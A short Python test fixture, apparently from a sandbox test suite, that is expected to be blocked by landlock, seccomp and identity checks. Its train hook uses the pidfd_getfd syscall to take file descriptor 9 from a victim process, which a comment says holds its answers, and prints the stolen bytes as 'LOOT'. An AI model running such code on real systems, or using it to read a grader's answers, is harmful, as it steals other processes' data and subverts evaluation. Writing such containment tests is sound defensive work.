"""Takes an open file out of another process of the same user, by pidfd_getfd.

@GROUP: targets
@EXPECTED: violation
@STOPPED_BY: landlock, seccomp, identity
"""

import ctypes
import os

from grader import hookimpl

PIDFD_GETFD = 438  # the same number on x86-64 and aarch64


@hookimpl
def train(model):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(
        PIDFD_GETFD, os.pidfd_open(int("@VICTIM_PID@")), 9, 0
    )  # the victim holds its answers at 9
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    print("LOOT:", os.pread(fd, 64, 0)[::8])
